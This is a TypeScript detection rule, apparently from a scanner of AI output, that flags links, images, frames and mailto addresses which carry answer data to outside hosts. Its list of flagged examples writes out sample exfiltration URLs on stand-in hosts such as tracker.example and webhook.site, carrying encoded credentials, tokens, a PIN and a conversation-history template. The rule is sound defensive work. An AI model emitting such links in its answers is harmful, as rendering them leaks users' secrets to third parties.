import { type Severity, worstSeverity } from '@ase/schemas'
import { answer } from '../../examples.ts'
import type { Rule } from '../../rule.ts'
import {
  createDataSearch,
  isExfiltrationUrl,
  carriesData,
  type RemoteReference,
  findRemoteReferences,
} from '@ase/url-analysis'
import { decodeEntities } from '@ase/text-analysis'

export const markdownExfiltration: Rule = {
  code: 'MARKDOWN_EXFILTRATION',
  severity: 'high',
  types: ['output'],
  reason:
    'Carries data in the address of an image, link or frame, which is fetched when the text is shown.',
  evidence:
    'An address outside of code that holds encoded or free text, a value of the answer itself or a template for one, or that belongs to a service which collects requests; high when showing the text fetches it.',
  exceptions:
    'Badges, maps, searches, diagrams and sharing links; parameters that name a thing, a size or a campaign; addresses in code; a collecting host that the sentence calls an example.',
  references: ['https://atlas.mitre.org/techniques/AML.T0077'],
  mappings: { owasp: ['LLM05', 'ASI02'], atlas: ['AML.T0077'], cwe: ['CWE-200'] },
  match: ({ envelope }) => {
    if (envelope.type !== 'output') return []
    const content = decodeEntities(envelope.input.content)
    const references = findRemoteReferences(content)
    const standsElsewhere = createDataSearch(content, references)
    const severity = worstSeverity(
      distinct(references).map((reference) =>
        classifyReference(content, reference, standsElsewhere),
      ),
    )
    return severity === null ? [] : [{ path: 'input.content', severity }]
  },
  examples: {
    flags: [
      answer('![x](https://img.tracker.example/p.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg)'),
      answer('<img src="https://c.tracker.example/dXNlcjphbGljZTtrZXk6NDI0Mg/logo.png">'),
      answer('[more](https://webhook.site/7f2b?c=hello)'),
      answer('<iframe src="https://tracker.example/f?q=a%20b%20c%20secret%20plan"></iframe>'),
      answer('![x](https://img.tracker.example/p.png?d={conversation_history})'),
      answer('Invoice 7710293 is open.\n\n![x](https://img.tracker.example/a.png?n=7710293)'),
      answer('[mail](mailto:drop@tracker.example?body=token=tk_9f2c81)'),
      answer(
        '![a](https://www.google.com/url?q=https%3A%2F%2Ft.example%2F%3Fd%3Dpin%20is%20now%20441)',
      ),
      answer('[on](https://t.example/?conversation=we%20close%20the%20plant%20soon)'),
      answer('\\includegraphics{https://t.example/a.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg}'),
    ],
    passes: [
      answer('![chart](https://example.com/chart.png)'),
      answer('![build](https://img.shields.io/badge/build-passing-brightgreen)'),
      answer('[map](https://maps.example.com/?q=Main+Street+5&utm_source=mail)'),
      answer('[share](https://social.example/?text=we%20like%20this%20page%20much)'),
      answer('[docs](https://example.com/guide#install)'),
      answer('Order 7710293: [track it](https://shop.example/orders?order=7710293)'),
      answer('Our scanner documentation gives https://webhook.site/7f2b as an example.'),
      answer('`![x](https://img.tracker.example/p.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg)`'),
      answer('[write us](mailto:support@shop.example?subject=Order%207710293)'),
    ],
  },
}

/** A collecting host may stand in a sentence that calls it an example, and again in one that does not. */
function distinct(references: readonly RemoteReference[]): readonly RemoteReference[] {
  const seen = new Set<string>()
  return references.filter(({ url, form }) => {
    if (isExfiltrationUrl(url)) return true
    const key = `${form} ${url}`
    if (seen.has(key)) return false
    seen.add(key)
    return true
  })
}

function classifyReference(
  content: string,
  { url, form, start }: RemoteReference,
  standsElsewhere: (value: string, automatic: boolean) => boolean,
): Severity | null {
  if (form === 'quoted') return null
  const automatic = form === 'fetched'
  const found = automatic ? 'high' : 'medium'
  if (isExfiltrationUrl(url)) return !automatic && isCalledExample(content, start) ? null : found
  return carriesData(url, { automatic, isInSurroundingText: standsElsewhere }) ? found : null
}

const SENTENCE_MAX = 160

function isCalledExample(content: string, at: number): boolean {
  const before =
    content
      .slice(Math.max(0, at - SENTENCE_MAX), at)
      .split(/[.!?]\s|\n/)
      .at(-1) ?? ''
  const after = content.slice(at, at + SENTENCE_MAX).split(/[.!?]\s|\n/, 1)[0] ?? ''
  return /\b(?:examples?|documentation|docs|documented|rule|detects?|detector|scanner|such as|like|e\.g|known|blocked|blocklist)\b/i.test(
    before + after,
  )
}
